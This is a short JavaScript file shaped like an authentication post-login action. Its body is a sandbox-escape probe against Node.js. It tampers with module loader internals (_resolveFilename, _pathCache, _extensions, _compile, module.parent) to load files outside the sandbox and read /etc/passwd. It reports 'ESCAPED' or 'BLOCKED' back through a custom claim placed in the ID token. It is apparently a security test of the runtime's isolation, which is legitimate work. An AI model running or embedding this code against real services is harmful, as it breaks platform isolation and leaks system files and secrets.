// the loader is turned against itself: _resolveFilename, _pathCache, _extensions, prototype
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const M = require('module');
  await attempt('resolveFilename', () => { const o = M._resolveFilename; M._resolveFilename = () => S.OUTSIDE_JS; try { return require('x'); } finally { M._resolveFilename = o; } });
  await attempt('pathCache', () => { for (const k of ['x\x00/x', 'x\x00']) M._pathCache[k] = S.OUTSIDE_JS; return require('x'); });
  await attempt('extension', () => { M._extensions['.env'] = M._extensions['.js']; return require(S.OUTSIDE_ENV); });
  await attempt('json', () => { const m = { exports: {} }; require.extensions['.json'](m, S.OUTSIDE_JSON); return JSON.stringify(m.exports); });
  await attempt('compile', () => { const m = new M(S.OUTSIDE_JS); m._compile('module.exports = require("fs").readFileSync("/etc/passwd").length', '/x.js'); return m.exports; });
  await attempt('load', () => new M('x').load(S.OUTSIDE_JS) || 0);
  await attempt('find', () => M.findPackageJSON && M.findPackageJSON('..', S.OUTSIDE_JS)); await attempt('sourcemap', () => M.findSourceMap && M.findSourceMap('/etc/passwd'));
  await attempt('parent', () => module.parent && module.parent.require('fs').readFileSync('/etc/passwd').length); await attempt('cache', () => Object.values(require.cache).some((m) => m.filename.endsWith('runner.cjs')));
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
